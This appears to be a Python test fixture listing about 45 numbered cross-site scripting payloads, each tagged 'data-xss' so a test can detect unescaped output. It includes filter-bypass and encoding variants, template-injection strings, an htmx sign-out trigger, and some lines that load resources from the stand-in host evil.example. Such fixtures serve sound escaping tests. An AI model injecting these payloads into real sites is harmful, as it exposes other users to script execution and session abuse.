"""What somebody types who wants it to run in another's browser. Each says `xss` and its number, so that it can be
looked for, and marks what it makes with `data-xss`, so that it can be found.
"""

from __future__ import annotations

TEMPLATES = (
    "<script data-xss>alert('{}')</script>",
    "<img data-xss src=x onerror=alert('{}')>",
    "<svg data-xss onload=alert('{}')>",
    "\"><img data-xss src=x onerror=alert('{}')>",
    "'><svg data-xss onload=alert('{}')>",
    "\" autofocus onfocus=alert('{}') data-xss=\"",
    "' onmouseover=alert('{}') data-xss='",
    "` onclick=alert('{}') data-xss=`",
    "</textarea><script data-xss>alert('{}')</script>",
    "</title><script data-xss>alert('{}')</script>",
    "</style><script data-xss>alert('{}')</script>",
    "</script><script data-xss>alert('{}')</script>",
    "</select><svg data-xss onload=alert('{}')>",
    "--><script data-xss>alert('{}')</script>",
    "]]><script data-xss>alert('{}')</script>",
    "javascript:alert('{}')",
    "java\tscript:alert('{}')",
    "data:text/html,<script data-xss>alert('{}')</script>",
    "<a data-xss href=javascript:alert('{}')>x</a>",
    "<iframe data-xss srcdoc=\"<script>alert('{}')</script>\">",
    "<object data-xss data=javascript:alert('{}')>",
    "<embed data-xss src=javascript:alert('{}')>",
    "<base data-xss href=//evil.example/{}/>",
    "<meta data-xss http-equiv=refresh content=\"0;url=javascript:alert('{}')\">",
    "<form data-xss action=javascript:alert('{}')><button autofocus>x",
    "<details data-xss open ontoggle=alert('{}')>",
    "<video data-xss><source onerror=alert('{}')></video>",
    "<body data-xss onload=alert('{}')>",
    "<div data-xss hx-get=/sign-out/ hx-trigger=load>{}</div>",
    "<div data-xss hx-on:load=\"alert('{}')\">x</div>",
    "<div data-xss hx-vals='js:{{x:alert(\"{}\")}}' hx-get=/ hx-trigger=load>",
    "<link data-xss rel=stylesheet href=//evil.example/{}.css>",
    "<style data-xss>*{{background:url(//evil.example/{})}}</style>",
    "<p data-xss style=\"background:url(//evil.example/{})\">",
    "{{{{ 7|add:'{}' }}}}{{% debug %}}",
    "${{alert('{}')}}#{{alert(1)}}",
    "\\u003cscript data-xss\\u003ealert('{}')\\u003c/script\\u003e",
    "&lt;script data-xss&gt;alert('{}')&lt;/script&gt;",
    "&#60;img data-xss src=x onerror=alert('{}')&#62;",
    "\ufeff＜script data-xss＞alert('{}')＜/script＞",
    "<scr<script>ipt data-xss>alert('{}')</scr</script>ipt>",
    "<math data-xss><mtext><style><img src=x onerror=alert('{}')></style></mtext></math>",
    "<noscript><p title=\"</noscript><img data-xss src=x onerror=alert('{}')>\">",
    "\"}}; alert('{}'); //",
    "';alert('{}')//",
)  # fmt: skip

PAYLOADS = [template.format(f"xss{number}") for number, template in enumerate(TEMPLATES)]

SHORT = [f"<b data-xss>{n}</b>" for n in ("xss90", "xss91")]
"""For a line that holds no more than a few letters."""


def that_fits(most: int, turn: int) -> str:
    """A payload of at most so many letters, another one each turn; empty where none is so short."""
    fitting = [payload for payload in (*PAYLOADS, *SHORT) if len(payload) <= most]
    return fitting[turn % len(fitting)] if fitting else ""
